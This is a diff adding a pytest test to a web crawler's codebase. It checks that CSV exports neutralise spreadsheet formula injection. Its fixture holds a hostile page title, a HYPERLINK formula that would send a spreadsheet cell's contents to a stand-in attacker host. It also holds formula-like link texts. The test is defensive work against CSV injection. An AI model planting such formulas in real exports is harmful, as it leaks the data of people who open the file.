@@ -18,7 +18,7 @@ from warcio.archiveiterator import ArchiveIterator
 from crawler.errors import OutputError
 from crawler.outputs.atomic_file import output
 from tests.helpers import PUTIN, RELATED, crawl_here, system_tool
-from tests.server import page
+from tests.server import Reply, page
 
 
 def jsonl(invoke, db, *args):
@@ -235,3 +235,53 @@ def _same_number(mine: str, theirs: str) -> bool:
         return float(mine) == float(theirs)
     except ValueError:
         return False
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/leak?"&A2,"Open source")'
+
+
+@pytest_twisted.async_fixture
+async def hostile(server, tmp_path):
+    """A page whose title and a document whose link text are spreadsheet formulas."""
+    server.route("/trap", Reply(200, (
+        f"<html><head><title>{HOSTILE_TITLE}</title></head><body><article><p>"
+        + "An ordinary article about the council budget and its many line items. " * 20
+        + "</p></article></body></html>").encode(), {"Content-Type": "text/html"}))
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs" / "note.md").write_text(
+        f"Budget notes.\n\nSee [=1+1]({server.url('/trap')}) and "
+        f"[@SUM(A1:A9)]({server.url('/gone')}).\n")
+    db = tmp_path / "archive.db"
+    assert (await crawl_here(db, [tmp_path / "docs"])).finished
+    return db
+
+
+def _formula_cells(soffice: str, csv_file: Path, tmp_path: Path) -> list[str]:
+    """What LibreOffice Calc makes formulas of when it opens ``csv_file``."""
+    import re
+    import zipfile
+
+    utf8 = "Text - txt - csv (StarCalc):44,34,76,1"
+    converted = subprocess.run(
+        [soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
+         f"--infilter={utf8}", "--convert-to", "ods", "--outdir", str(tmp_path / "ods"),
+         str(csv_file)], capture_output=True, text=True, timeout=180)
+    assert converted.returncode == 0, converted.stderr
+    with zipfile.ZipFile(tmp_path / "ods" / (csv_file.stem + ".ods")) as ods:
+        content = ods.read("content.xml").decode()
+    assert "Open source" in content or "SUM" in content, "the hostile cells are there"
+    return re.findall(r'table:formula="([^"]*)"', content)
+
+
+@pytest.mark.parametrize("command", [
+    ("export", "--format", "csv"), ("export", "--format", "csv", "--excel"),
+    ("report", "--format", "csv")])
+def test_csv_cells_never_become_formulas(invoke, hostile, tmp_path, command):
+    soffice = system_tool("soffice", "libreoffice-calc-nogui")
+    out = tmp_path / f"{command[0]}.csv"
+    result = invoke(*command, "--db", str(hostile), "-o", str(out))
+    assert result.exit_code == 0, result.stderr
+    assert _formula_cells(soffice, out, tmp_path) == []
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    cells = {value for row in rows for value in row.values()}
+    assert (f"'{HOSTILE_TITLE}" in cells) or ("'=1+1" in cells), "kept, as text"
